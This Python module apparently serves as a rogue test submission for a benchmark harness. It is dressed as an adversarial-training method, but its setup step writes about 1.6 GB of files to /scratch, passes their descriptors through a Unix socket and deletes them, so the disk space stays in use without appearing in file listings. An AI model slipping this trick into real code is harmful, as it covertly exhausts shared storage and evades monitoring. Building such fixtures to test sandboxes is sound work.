"""It keeps removed files in flight in a socket, where no process has them open."""

import array
import socket
from pathlib import Path

from torch import Tensor

from bench import Attack, Batch, Method, Nets, register
from bench.inner import against_labels
from bench.losses import cross_entropy


@register(
    "rogue-sends-descriptors",
    version="1",
    family="adversarial-training",
    reference="arXiv:0000.00000",
    authors="A Rogue",
    licence="Apache-2.0",
)
class SendsDescriptors(Method):
    """Adversarial training by messages."""

    def setup(self, nets: Nets) -> None:
        one, _other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        for number in range(100):
            path = Path(f"/scratch/log-{number}")
            with path.open("wb") as file:
                file.write(bytes(2**24))
                rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file.fileno()]))
                one.sendmsg([b"x"], [rights])
            path.unlink()

    def attack(self, nets: Nets, batch: Batch) -> Attack:
        return against_labels(nets, batch)

    def loss(self, nets: Nets, batch: Batch) -> Tensor:
        return cross_entropy(nets.student(batch.x_adv), batch.y)
